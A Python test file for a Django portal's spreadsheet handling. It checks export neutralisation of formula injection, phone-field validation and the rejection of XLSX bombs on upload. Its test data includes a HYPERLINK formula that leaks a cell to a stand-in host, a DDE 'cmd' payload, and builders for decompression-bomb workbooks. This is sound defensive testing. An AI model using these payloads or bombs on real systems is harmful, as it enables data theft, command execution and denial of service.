"""Spreadsheets the portal writes hold no live formula; XLSX it reads cannot exhaust a worker
(partnership_portal/tabular.py, the phone validator, and the imports that use them)."""

import datetime as dt
import io
import time
import tracemalloc
import zipfile
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from partners.forms import ContactForm, ProfileForm
from partners.models import Partner, PartnerImport
from partnership_portal import tabular
from partnership_portal.models import ImportStatus
from partnership_portal.validators import validate_phone
from practice.forms_reference import StudentForm
from practice.models import StudentImport

HYPERLINK = '=HYPERLINK("http://ev.il/?"&A1,"call")'
FORMULA_TEXTS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


# --- Formula injection ----------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULA_TEXTS)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert tabular.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["ООО «Ромашка»", "hr@example.ru", "", None, -5, 0, Decimal("-1.50"), -2.5,
                                   dt.date(2026, 1, 31)])  # fmt: skip
def test_plain_text_numbers_and_dates_are_written_as_they_are(value):
    assert tabular.neutralise(value) == value


def test_xlsx_keeps_formula_text_as_text_and_numbers_as_numbers():
    content = tabular.xlsx_bytes([["Текст", "Число"], [HYPERLINK, -5], ["-1", Decimal("-2.5")]], sheet_title="T")
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("'" + HYPERLINK, "s")
    assert (sheet["A3"].value, sheet["A3"].data_type) == ("'-1", "s")
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-5, "n")
    assert (sheet["B3"].value, sheet["B3"].data_type) == (-2.5, "n")


def test_csv_prefixes_formula_text_with_an_apostrophe():
    text = tabular.csv_bytes([["a", "b"], [HYPERLINK, -5], ["@x", "\t1"]]).decode("utf-8-sig")
    assert text.splitlines()[1:] == ['"\'=HYPERLINK(""http://ev.il/?""&A1,""call"")";-5', "'@x;'\t1"]


@pytest.mark.parametrize("text", FORMULA_TEXTS)
def test_reading_back_an_exported_cell_gives_the_original_text(text):
    assert tabular.cell_text(tabular.neutralise(text)) == text.strip()


# --- Phone numbers --------------------------------------------------------------------------


@pytest.mark.parametrize("phone", ["+7 (343) 300-00-00", "8 912 345 67 89", "2-15-37", "+44 20 7946 0958"])
def test_phone_numbers_as_people_write_them_pass(phone):
    validate_phone(phone)


@pytest.mark.parametrize(
    "phone", [HYPERLINK, "@SUM(A1)", "+7 343\n300-00-00", "доб. 123", "1234", "+7 343 300-00-00 00000000", "7+7"]
)
def test_formulas_letters_and_wrong_lengths_are_not_phone_numbers(phone):
    with pytest.raises(ValidationError) as caught:
        validate_phone(phone)
    assert caught.value.code == "phone"


def test_employer_cannot_plant_a_formula_in_the_profile_phone(employer_a_client, partner_a):
    Partner.objects.filter(pk=partner_a.pk).update(phone="+7 343 000-00-01")
    data = {"phone": HYPERLINK, "email": "hr@uralmash.example", "website": "", "description": ""}
    response = employer_a_client.post(reverse("partners:profile"), data)
    assert response.status_code == 200
    assert response.context["form"].errors["phone"]
    partner_a.refresh_from_db()
    assert partner_a.phone == "+7 343 000-00-01"


@pytest.mark.parametrize("form_class", [ProfileForm, ContactForm, StudentForm])
def test_every_phone_form_field_checks_the_format(form_class):
    assert form_class(data={"phone": "=1+1"}).errors["phone"]
    assert "phone" not in form_class(data={"phone": "+7 (343) 300-00-00"}).errors


# --- XLSX bombs -----------------------------------------------------------------------------

HEADERS = {
    "partners:import_start": ["Полное наименование", "ИНН"],
    "practice:import_start": ["Группа", "Специальность", "Год поступления", "Год выпуска", "Фамилия", "Имя"],
}


def _inline_row(number, texts):
    cells = "".join(
        f'<c r="{chr(65 + i)}{number}" t="inlineStr"><is><t>{text}</t></is></c>' for i, text in enumerate(texts)
    )
    return f'<row r="{number}">{cells}</row>'.encode()


def xlsx_with(*, sheet_chunks, shared_strings_chunks=()):
    """A real workbook whose first sheet (and shared strings) are replaced by the given raw XML,
    streamed into the archive so a huge member costs no memory here."""
    buffer = io.BytesIO()
    Workbook().save(buffer)
    template = zipfile.ZipFile(buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in template.namelist():
            if name not in ("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"):
                archive.writestr(name, template.read(name))
        for name, chunks in (
            ("xl/worksheets/sheet1.xml", sheet_chunks),
            ("xl/sharedStrings.xml", shared_strings_chunks),
        ):
            if chunks:
                with archive.open(name, "w", force_zip64=True) as member:
                    for chunk in chunks:
                        member.write(chunk)
    return out.getvalue()


def sheet_xml(rows):
    yield b'<?xml version="1.0" encoding="UTF-8"?>'
    yield b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    yield from rows
    yield b"</sheetData></worksheet>"


def huge_shared_string_workbook(headers):
    rows = [_inline_row(1, headers), b'<row r="2"><c r="A2" t="s"><v>0</v></c></row>']
    shared = [b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>']
    shared += [b"A" * (1024 * 1024)] * 200  # 200 MB of text, about 200 KB compressed
    shared += [b"</t></si></sst>"]
    return xlsx_with(sheet_chunks=sheet_xml(rows), shared_strings_chunks=shared)


def empty_rows_workbook(headers, *, explicit):
    """Two million empty rows: written out as <row/> elements, or as one row at r=2000000 that
    openpyxl pads with the empty rows in between (a file of a few hundred bytes)."""
    if explicit:
        rows = [_inline_row(1, headers), *[b"<row/>" * 100_000] * 20]
    else:
        rows = [_inline_row(1, headers), _inline_row(2_000_000, ["x"])]
    return xlsx_with(sheet_chunks=sheet_xml(rows))


def upload_refused(client, url_name, content, name="bomb.xlsx"):
    """Uploads through the import form; returns (the file-level error, seconds, peak MB)."""
    model = PartnerImport if url_name.startswith("partners") else StudentImport
    assert client.get(reverse(url_name)).status_code == 200  # modules and templates loaded before timing
    tracemalloc.start()
    started = time.monotonic()
    try:
        response = client.post(reverse(url_name), {"file": SimpleUploadedFile(name, content)})
        seconds = time.monotonic() - started
        peak = tracemalloc.get_traced_memory()[1] / 1024 / 1024
    finally:
        tracemalloc.stop()
    assert response.status_code == 302
    staged = model.objects.get()
    assert staged.status == ImportStatus.INVALID
    assert staged.rows == []
    assert len(staged.errors) == 1
    return staged.errors[0]["messages"][0], seconds, peak


@pytest.mark.parametrize("url_name", list(HEADERS))
def test_workbook_with_a_huge_shared_string_is_refused_before_parsing(staff_client, url_name):
    content = huge_shared_string_workbook(HEADERS[url_name])
    assert len(content) < 1024 * 1024
    message, seconds, peak = upload_refused(staff_client, url_name, content)
    assert "XLSX" in message and "50" in message
    assert seconds < 5
    assert peak < 50


@pytest.mark.parametrize("url_name", list(HEADERS))
@pytest.mark.parametrize("explicit", [True, False], ids=["row-elements", "row-gap"])
def test_two_million_empty_rows_are_refused_fast(staff_client, url_name, explicit):
    content = empty_rows_workbook(HEADERS[url_name], explicit=explicit)
    assert len(content) < 100 * 1024
    message, seconds, peak = upload_refused(staff_client, url_name, content)
    if not explicit:  # the archive is harmless; the row count refuses it
        assert "10000" in message
    assert seconds < 5
    assert peak < 100


def test_empty_rows_count_toward_the_row_limit_even_when_the_archive_looks_harmless(staff_client, monkeypatch):
    monkeypatch.setattr(tabular, "XLSX_MAX_RATIO", 10**9)
    content = empty_rows_workbook(HEADERS["partners:import_start"], explicit=True)
    message, seconds, _peak = upload_refused(staff_client, "partners:import_start", content)
    assert "10000" in message
    assert seconds < 5


def test_archive_over_the_uncompressed_limit_is_refused(staff_client, monkeypatch):
    monkeypatch.setattr(tabular, "XLSX_MAX_UNCOMPRESSED", 1000)
    content = xlsx_with(sheet_chunks=sheet_xml([_inline_row(1, HEADERS["partners:import_start"])]))
    message, _seconds, _peak = upload_refused(staff_client, "partners:import_start", content)
    assert "XLSX" in message


def test_reading_stops_at_the_time_bound(staff_client, monkeypatch):
    monkeypatch.setattr(tabular, "READ_SECONDS", 0)
    rows = [_inline_row(1, HEADERS["partners:import_start"])]
    rows += [_inline_row(n, ["ООО «Партнёр»", "6600000003"]) for n in range(2, 300)]
    message, _seconds, _peak = upload_refused(
        staff_client, "partners:import_start", xlsx_with(sheet_chunks=sheet_xml(rows))
    )
    assert "too long" in message or "долго" in message


def test_damaged_sheet_xml_is_a_clean_file_error(staff_client):
    content = xlsx_with(sheet_chunks=[b"<worksheet><sheetData><row r='1'><c r='A1' t='s'><v>7</v></c>"])
    message, _seconds, _peak = upload_refused(staff_client, "partners:import_start", content)
    assert "XLSX" in message


def test_csv_with_an_oversized_field_is_a_clean_file_error(staff_client):
    content = ("Полное наименование;ИНН\n" + "x" * 200_000 + ";6600000003\n").encode()
    message, _seconds, _peak = upload_refused(staff_client, "partners:import_start", content, name="big.csv")
    assert "CSV" in message
